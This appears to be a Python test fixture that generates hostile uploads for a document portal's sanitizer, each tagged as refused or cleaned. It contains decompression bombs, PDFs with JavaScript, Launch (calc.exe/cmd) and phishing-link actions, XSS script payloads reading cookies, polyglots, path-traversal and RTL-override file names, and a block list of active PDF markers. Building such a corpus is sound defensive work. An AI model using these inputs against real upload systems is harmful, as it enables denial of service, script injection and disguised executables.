"""A corpus of hostile uploads, built at test time (no large or dangerous file in the repo).

Every entry says what must happen: ``refused`` (with a reason the message must contain) or
``cleaned`` (accepted, and the stored file must not contain ``absent``). The EICAR test
string is put together at run time (``clamd_server.eicar``).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

from . import samples
from .clamd_server import eicar

MALWARE = "contains malware"
KIND = "This kind of file cannot be accepted"
DAMAGED_PDF = "The PDF is damaged or incomplete"
DAMAGED_PICTURE = "The picture is damaged or incomplete"
TOO_MANY_PIXELS = "megapixels"
# Markers that must not survive cleaning (checked in the stored bytes, PDFs expanded).
ACTIVE_PDF = (
    b"/JS",
    b"/JavaScript",
    b"/Launch",
    b"/EmbeddedFile",
    b"/AcroForm",
    b"/XFA",
    b"/OpenAction",
    b"/AA",
    b"/FileAttachment",
    b"/SubmitForm",
    b"/GoToR",
    b"/URI",
    b"/AF",
    b"/EF",
)
SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"


@dataclass(frozen=True)
class Hostile:
    """One hostile file: its upload name, how to make it, what must happen."""

    id: str
    filename: str
    make: Callable[[], bytes] = field(repr=False)
    outcome: str  # "refused" or "cleaned"
    reason: str = ""  # refused: a part of the message
    absent: tuple[bytes, ...] = ()  # cleaned: must not be in what is stored
    stored_name: str = ""  # cleaned: the file name kept (when it differs)
    content_type: str = "application/octet-stream"


# --- building blocks ------------------------------------------------------------------------


def _jpeg(*, size=(400, 560), **save) -> bytes:
    out = io.BytesIO()
    samples.page_image(["Kontoauszug", "Seite 1"], size=size).save(out, "JPEG", quality=80, **save)
    return out.getvalue()


def _gps_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "Phone Maker"  # Make
    exif[0x010E] = "Wohnung Hauptstrasse 12"  # ImageDescription
    exif[0x0112] = 1
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0)})
    return exif


def _png(**save) -> bytes:
    out = io.BytesIO()
    samples.page_image(["Bescheinigung"], size=(300, 400)).save(out, "PNG", **save)
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


def _png_declaring(width: int, height: int, *, rows: int | None = None) -> bytes:
    """A greyscale PNG of ``width`` × ``height``: tiny on disk, huge in memory."""
    compressor = zlib.compressobj(9)
    body = b""
    row = b"\x00" * (width + 1)
    for _ in range(height if rows is None else rows):
        body += compressor.compress(row)
    body += compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


def _jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims ``width`` × ``height``."""
    data = bytearray(_jpeg(size=(40, 40)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack("!HH", height, width)
    return bytes(data)


def _zip(members: dict[str, bytes], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _zip_bomb(megabytes: int = 100) -> bytes:
    out = io.BytesIO()
    chunk = bytes(1024 * 1024)
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("nullen.bin", "w", force_zip64=True) as member,
    ):
        for _ in range(megabytes):
            member.write(chunk)
    return out.getvalue()


def _pdf(build: Callable[[pikepdf.Pdf], None] | None = None, *, pages: int = 1, **save) -> bytes:
    pdf = pikepdf.open(io.BytesIO(samples.pdf_bytes(1)))
    for _ in range(pages - 1):
        pdf.add_blank_page(page_size=(595, 842))
    if build is not None:
        build(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def _js(code: str) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def _open_action(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def build(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(action)

    return build


def _names_javascript(pdf: pikepdf.Pdf) -> None:
    script = pdf.make_indirect(_js("app.alert('names tree')"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("start"), script])))


def _page_aa(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=_js("app.alert('page open')"))


def _link_js(pdf: pikepdf.Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 300, 300]),
        A=_js("app.launchURL('http://evil.invalid/')"),
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(link)]))


def _embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["rechnung.exe"] = pikepdf.AttachedFileSpec(
        pdf, b"MZ evil-embedded-payload", mime_type="application/octet-stream"
    )


def _file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"evil-annotation-payload", filename="lies.mich.exe")
    annotation = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=Array([10, 10, 40, 40]),
        FS=spec.obj,
        Contents=String("Bitte öffnen"),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


def _form_with_xfa(pdf: pikepdf.Pdf) -> None:
    page = pdf.pages[0]
    field_ = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            V=String("Anna Muster"),
            DA=String("/Helv 12 Tf 0 g"),
            Rect=Array([50, 700, 300, 720]),
            P=page.obj,
            AA=Dictionary(K=_js("app.alert('keystroke')")),
        )
    )
    page.obj.Annots = Array([field_])
    helv = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field_]),
        NeedAppearances=True,
        DA=String("/Helv 12 Tf 0 g"),
        DR=Dictionary(Font=Dictionary(Helv=helv)),
        XFA=pdf.make_stream(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>"),
    )


def _eicar_stream(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Payload = pdf.make_stream(eicar())


def _flate_bomb(pdf: pikepdf.Pdf, megabytes: int = 450) -> None:
    compressor = zlib.compressobj(9)
    chunk = bytes(1024 * 1024)
    data = b"".join(compressor.compress(chunk) for _ in range(megabytes)) + compressor.flush()
    stream = pikepdf.Stream(pdf, b"")
    stream.write(data, filter=Name.FlateDecode)
    pdf.pages[0].obj.Contents = pdf.make_indirect(stream)


def _huge_image(pdf: pikepdf.Pdf) -> None:
    image = pikepdf.Stream(pdf, b"")
    image.write(zlib.compress(bytes(1000)), filter=Name.FlateDecode)
    image.Type, image.Subtype = Name.XObject, Name.Image
    image.Width, image.Height = 30_000, 30_000
    image.ColorSpace, image.BitsPerComponent = Name.DeviceGray, 8
    pdf.pages[0].obj.Resources.XObject = Dictionary(Bomb=pdf.make_indirect(image))


def _huge_page(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.MediaBox = Array([0, 0, 14_400, 100_000])


def _no_pages() -> bytes:
    out = io.BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


def _encrypted(user: str) -> bytes:
    return _pdf(encryption=pikepdf.Encryption(user=user, owner="eigentuemer"))


def _heic_with_gps() -> bytes:
    import pillow_heif

    image = samples.page_image(["Meldebescheinigung"], size=(300, 400))
    heif = pillow_heif.from_pillow(image)
    out = io.BytesIO()
    heif.save(out, quality=70, exif=_gps_exif().tobytes())
    return out.getvalue()


def _other_image(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 64), "white").save(out, kind)
    return out.getvalue()


def _half(data: bytes) -> bytes:
    return data[: len(data) // 2]


def _svg(prolog: bool) -> bytes:
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">'
        b"<script>fetch('/portal/')</script></svg>"
    )
    return (b'<?xml version="1.0" encoding="UTF-8"?>\n' + svg) if prolog else svg


def _png_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    info.add_itxt("Description", HTML.decode(), zip=True)
    return _png(pnginfo=info)


# --- the corpus -----------------------------------------------------------------------------

C = "cleaned"
R = "refused"
JPG, PNG, PDF = "image/jpeg", "image/png", "application/pdf"
_SAFE_JPEG = _jpeg  # a harmless photo, for the file name cases

CORPUS: list[Hostile] = [
    # Size
    Hostile("zero-bytes", "leer.jpg", lambda: b"", R, "The file is empty", content_type=JPG),
    Hostile(
        "100-mb",
        "riesig.jpg",
        lambda: b"\xff\xd8\xff\xe0" + bytes(100 * 1024 * 1024),
        R,
        "The file is larger than 20 MB",
        content_type=JPG,
    ),
    Hostile(
        "just-over-limit-pdf",
        "gross.pdf",
        lambda: b"%PDF-1.7\n" + bytes(20 * 1024 * 1024),
        R,
        "larger than 20 MB",
        content_type=PDF,
    ),
    # Malware (ClamAV, test signature)
    Hostile("eicar", "rechnung.jpg", eicar, R, MALWARE, content_type=JPG),
    Hostile(
        "eicar-in-pdf", "brief.pdf", lambda: _pdf(_eicar_stream, compress_streams=False), R, MALWARE
    ),
    Hostile("eicar-after-jpeg", "foto.jpg", lambda: _jpeg() + eicar(), R, MALWARE),
    Hostile("eicar-in-zip", "fotos.zip", lambda: _zip({"eicar.com": eicar()}), R, MALWARE),
    # Decompression bombs
    Hostile(
        "png-bomb-900mp",
        "bombe.png",
        lambda: _png_declaring(30_000, 30_000, rows=64),
        R,
        TOO_MANY_PIXELS,
    ),
    Hostile(
        "png-bomb-49mp", "bombe2.png", lambda: _png_declaring(7_000, 7_000), R, TOO_MANY_PIXELS
    ),
    Hostile(
        "png-60mp-one-colour",
        "flaeche.png",
        lambda: samples.large_png_bytes(60),
        R,
        TOO_MANY_PIXELS,
    ),
    Hostile(
        "jpeg-header-65535x65535",
        "bombe.jpg",
        lambda: _jpeg_declaring(65_535, 65_535),
        R,
        TOO_MANY_PIXELS,
    ),
    Hostile("zip-bomb", "archiv.zip", _zip_bomb, R, KIND),
    Hostile("zip-bomb-named-jpg", "scan.jpg", lambda: _zip_bomb(20), R, KIND),
    Hostile("pdf-flate-bomb", "bombe.pdf", lambda: _pdf(_flate_bomb), R, "unpacks to more than"),
    Hostile("pdf-huge-image", "riesenbild.pdf", lambda: _pdf(_huge_image), R, TOO_MANY_PIXELS),
    Hostile("pdf-huge-page", "plakat.pdf", lambda: _pdf(_huge_page), R, "larger than 2 metres"),
    Hostile("pdf-201-pages", "stapel.pdf", lambda: _pdf(pages=201), R, "more than 200 pages"),
    # PDFs with active content: kept only rewritten without it
    Hostile("pdf-openaction-js", "js.pdf", lambda: _pdf(_open_action(_js("app.alert(1)"))), C),
    Hostile("pdf-names-javascript", "names.pdf", lambda: _pdf(_names_javascript), C),
    Hostile(
        "pdf-launch-action",
        "launch.pdf",
        lambda: _pdf(
            _open_action(
                Dictionary(S=Name.Launch, F=String("calc.exe"), Win=Dictionary(F=String("cmd")))
            )
        ),
        C,
        absent=(b"calc.exe",),
    ),
    Hostile("pdf-page-aa", "aa.pdf", lambda: _pdf(_page_aa), C, absent=(b"page open",)),
    Hostile("pdf-link-js", "link.pdf", lambda: _pdf(_link_js), C, absent=(b"evil.invalid",)),
    Hostile(
        "pdf-embedded-file",
        "anhang.pdf",
        lambda: _pdf(_embedded_file),
        C,
        absent=(b"evil-embedded-payload", b"rechnung.exe"),
    ),
    Hostile(
        "pdf-file-attachment-annotation",
        "notiz.pdf",
        lambda: _pdf(_file_attachment_annotation),
        C,
        absent=(b"evil-annotation-payload",),
    ),
    Hostile("pdf-form-xfa", "formular.pdf", lambda: _pdf(_form_with_xfa), C, absent=(b"xdp:xdp",)),
    Hostile(
        "pdf-submitform",
        "senden.pdf",
        lambda: _pdf(
            _open_action(
                Dictionary(
                    S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://x.invalid"))
                )
            )
        ),
        C,
    ),
    Hostile(
        "pdf-uri-openaction",
        "link2.pdf",
        lambda: _pdf(_open_action(Dictionary(S=Name.URI, URI=String("http://phish.invalid/")))),
        C,
        absent=(b"phish.invalid",),
    ),
    Hostile(
        "pdf-gotor-unc",
        "unc.pdf",
        lambda: _pdf(_open_action(Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\x.pdf")))),
        C,
        absent=(b"evil\\share",),
    ),
    # Encrypted, damaged, empty PDFs
    Hostile("pdf-encrypted", "geheim.pdf", lambda: _encrypted("geheim"), R, "password"),
    Hostile("pdf-encrypted-owner-only", "gesperrt.pdf", lambda: _encrypted(""), R, "password"),
    Hostile("pdf-truncated", "halb.pdf", lambda: _half(samples.pdf_bytes(3)), R, DAMAGED_PDF),
    Hostile("pdf-garbage", "kaputt.pdf", lambda: b"%PDF-1.7\n garbage", R, DAMAGED_PDF),
    Hostile("pdf-no-pages", "leer.pdf", _no_pages, R, "The PDF has no pages"),
    # Polyglots: kept only in the cleaned form
    Hostile(
        "pdf-zip-polyglot",
        "poly.pdf",
        lambda: _pdf() + _zip({"index.html": HTML}, compression=zipfile.ZIP_STORED),
        C,
        absent=(b"PK\x03\x04", SCRIPT),
    ),
    Hostile("jpeg-html-polyglot", "poly.jpg", lambda: _jpeg() + HTML, C, absent=(SCRIPT, b"<html")),
    Hostile("jpeg-html-comment", "kommentar.jpg", lambda: _jpeg(comment=HTML), C, absent=(SCRIPT,)),
    Hostile(
        "jpeg-xmp-script",
        "xmp.jpg",
        lambda: _jpeg(xmp=b"<x:xmpmeta>" + SCRIPT + b"</x:xmpmeta>"),
        C,
        absent=(SCRIPT,),
    ),
    Hostile("png-text-chunks-html", "text.png", _png_text, C, absent=(SCRIPT, b"Comment")),
    Hostile(
        "png-zip-polyglot",
        "poly.png",
        lambda: _png() + _zip({"a.html": HTML}, compression=zipfile.ZIP_STORED),
        C,
        absent=(b"PK\x03\x04", SCRIPT),
    ),
    # Disguised as pictures
    Hostile("html-as-jpg", "foto.jpg", lambda: HTML, R, KIND, content_type=JPG),
    Hostile(
        "html-bom-as-png", "bild.png", lambda: b"\xef\xbb\xbf" + HTML, R, KIND, content_type=PNG
    ),
    Hostile("svg-as-png", "logo.png", lambda: _svg(False), R, KIND, content_type=PNG),
    Hostile("svg-xml-as-jpg", "logo.jpg", lambda: _svg(True), R, KIND, content_type=JPG),
    Hostile("gif-as-jpg", "anim.jpg", lambda: _other_image("GIF"), R, KIND, content_type=JPG),
    Hostile("bmp-as-png", "bild.png", lambda: _other_image("BMP"), R, KIND, content_type=PNG),
    Hostile("webp-as-jpg", "bild.jpg", lambda: _other_image("WEBP"), R, KIND, content_type=JPG),
    Hostile("tiff-in-portal", "scan.jpg", lambda: _other_image("TIFF"), R, KIND),
    Hostile("elf-as-pdf", "brief.pdf", lambda: b"\x7fELF\x02\x01\x01" + bytes(200), R, KIND),
    Hostile(
        "pe-as-jpg", "foto.jpg", lambda: b"MZ\x90\x00\x03" + bytes(200) + b"PE\x00\x00", R, KIND
    ),
    Hostile("pdf-header-late", "spaet.pdf", lambda: b"junk" * 10 + _pdf(), R, KIND),
    # Broken pictures
    Hostile("jpeg-truncated", "halb.jpg", lambda: _half(_jpeg()), R, DAMAGED_PICTURE),
    Hostile("png-truncated", "halb.png", lambda: _half(_png()), R, DAMAGED_PICTURE),
    # Metadata that must not be kept
    Hostile(
        "jpeg-exif-gps",
        "wohnung.jpg",
        lambda: _jpeg(exif=_gps_exif().tobytes()),
        C,
        absent=(b"Phone Maker", b"Hauptstrasse", b"Exif\x00\x00"),
    ),
    Hostile(
        "png-exif-gps",
        "wohnung.png",
        lambda: _png(exif=_gps_exif().tobytes()),
        C,
        absent=(b"Phone Maker", b"Hauptstrasse", b"eXIf"),
    ),
    Hostile(
        "heic-exif-gps",
        "wohnung.heic",
        _heic_with_gps,
        C,
        absent=(b"Phone Maker", b"Hauptstrasse"),
    ),
    # File names
    Hostile(
        "name-path-traversal",
        "../../../etc/passwd.jpg",
        _SAFE_JPEG,
        C,
        stored_name="passwd.jpg",
    ),
    Hostile(
        "name-windows-path",
        "C:\\Users\\anna\\Mietvertrag.jpg",
        _SAFE_JPEG,
        C,
        stored_name="Mietvertrag.jpg",
    ),
    Hostile("name-nul", "foto\x00.php.jpg", _SAFE_JPEG, C, stored_name="foto.php.jpg"),
    Hostile(
        "name-rtl-override",
        "Rechnung\u202egpj.exe",
        _SAFE_JPEG,
        C,
        stored_name="Rechnunggpj.exe",
    ),
    Hostile(
        "name-control-characters",
        # (CR and LF cannot travel in a multipart file name; tab, bell and escape can)
        "Miete\tAnlage\x07\x1b[2J\x7f.jpg",
        _SAFE_JPEG,
        C,
        stored_name="MieteAnlage[2J.jpg",
    ),
    Hostile("name-hidden-dot", ".htaccess.jpg", _SAFE_JPEG, C, stored_name="htaccess.jpg"),
    Hostile(
        "name-300-characters",
        "Ä" * 300 + ".jpg",
        _SAFE_JPEG,
        C,
        stored_name="Ä" * 146 + ".jpg",
    ),
    Hostile(
        "name-umlauts-kept", "Kündigung Größe.jpg", _SAFE_JPEG, C, stored_name="Kündigung Größe.jpg"
    ),
]

assert len({h.id for h in CORPUS}) == len(CORPUS), "corpus ids must be unique"
